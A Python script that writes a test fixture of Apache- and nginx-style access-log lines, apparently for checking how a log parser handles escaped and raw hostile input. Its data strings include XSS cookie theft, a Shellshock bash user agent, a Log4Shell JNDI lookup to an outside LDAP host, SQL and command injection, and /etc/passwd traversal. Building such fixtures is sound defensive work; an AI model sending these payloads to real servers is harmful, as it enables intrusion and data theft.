"""Writes hostile_access.log: attack lines as web servers log them (run from this folder).

Each line has a readable header (client, time) and a hostile request, user agent or referrer:
escaped by Apache (`\\"`, `\\\\`, `\\xhh`) or nginx (`\\xHH`), or raw bytes as Apache 1.3 and
nginx `escape=none` write them (bytes that are not UTF-8, raw quotes). Deterministic.
"""
from pathlib import Path

HEAD = '203.0.113.{n} - - [27/Nov/2026:19:{m:02d}:{s:02d} +0100] '


def apache_escape(data: bytes) -> bytes:
    """What Apache's ap_escape_logitem writes for `data`."""
    names = {8: b"\\b", 10: b"\\n", 13: b"\\r", 9: b"\\t", 11: b"\\v", 34: b'\\"', 92: b"\\\\"}
    return b"".join(names.get(c, bytes([c]) if 32 <= c < 127 else b"\\x%02x" % c) for c in data)


def nginx_escape(data: bytes) -> bytes:
    """What nginx's escape=default writes for `data`."""
    return b"".join(b"\\x%02X" % c if c < 32 or c > 126 or c in (34, 92) else bytes([c]) for c in data)


def lines() -> list[bytes]:
    sled = bytes([0x90, 0x02, 0xb1, 0x02]) * 2048  # an 8 KB WebDAV SEARCH overflow (IIS 5, 2003)
    tls = bytes.fromhex("160301020001000001fc0303") + bytes(range(0, 40))
    rdp = b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr"
    requests = [
        apache_escape(b"SEARCH /" + sled),
        apache_escape(tls),
        nginx_escape(tls),
        apache_escape(rdp),
        apache_escape(b'GET /search?q="><script>alert(document.cookie)</script> HTTP/1.1'),
        apache_escape(b"GET /cgi-bin/test.cgi?x=\\\"|id\\\" HTTP/1.1"),
        nginx_escape(b'GET /index.php?id=1" OR "1"="1 HTTP/1.1'),
        apache_escape("GET /é?q=ü' UNION SELECT 1-- HTTP/1.1".encode()),
        apache_escape(b"GET /\x00../../etc/passwd HTTP/1.0"),
        b"\\x16\\x03\\x01",
        b"",
        b"-",
        b"HELP",
        b"GET /a\"b\" HTTP/1.1",  # raw quotes (nginx escape=none)
        b"GET /\xc0\xaf../\xff\xfe HTTP/1.1",  # raw bytes that are not UTF-8 (Apache 1.3)
        b"POST /xmlrpc.php HTTP/1.1",
    ]
    agents = [
        b"-", b"-", b"-", b"-", b"Mozilla/5.0", apache_escape(b'() { :; }; /bin/bash -c "id"'),
        nginx_escape(b'sqlmap "1.8" \\ agent'), apache_escape(b"${jndi:ldap://198.51.100.66/a}\x00"),
        b"-", b"-", b"-", b"-", b"-", b"-", b"\xff\xfeUA", apache_escape(b"\t" * 3 + b"Go-http-client/1.1"),
    ]
    out = []
    for n, (request, agent) in enumerate(zip(requests, agents)):
        head = HEAD.format(n=n + 1, m=n // 60, s=n % 60).encode()
        out.append(head + b'"' + request + b'" 400 226 "-" "' + agent + b'"')
    return out


if __name__ == "__main__":
    Path("hostile_access.log").write_bytes(b"\n".join(lines()) + b"\n")
